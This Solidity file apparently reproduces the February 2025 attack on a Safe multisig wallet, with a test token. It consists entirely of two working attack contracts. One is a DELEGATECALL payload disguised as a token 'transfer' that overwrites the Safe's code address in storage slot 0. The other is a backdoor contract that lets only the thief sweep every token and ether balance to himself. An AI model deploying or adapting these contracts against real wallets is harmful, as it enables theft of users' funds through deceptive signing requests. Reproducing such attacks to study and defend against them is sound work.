// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.20;

import { TestToken } from "./TestToken.sol";

/// @title What the owners of a Safe were made to sign in February 2025: a DELEGATECALL that looks like a token transfer.
/// @notice Run in the Safe's storage it replaces the Safe's code, and takes nothing. The balance is all there afterwards.
contract MasterCopySwap {
    /// Slot 0 of a Safe: the address of its code.
    address private singleton;

    function transfer(address backdoor, uint256) external {
        singleton = backdoor;
    }
}

/// @title The code that the Safe runs from then on: it obeys the thief.
contract Backdoor {
    error NotThief(address caller);
    error EtherStays();

    address private immutable thief = msg.sender;

    function sweep(TestToken token) external {
        if (msg.sender != thief) revert NotThief(msg.sender);
        token.transfer(thief, token.balanceOf(address(this)));
        (bool done,) = thief.call{ value: address(this).balance }("");
        if (!done) revert EtherStays();
    }
}
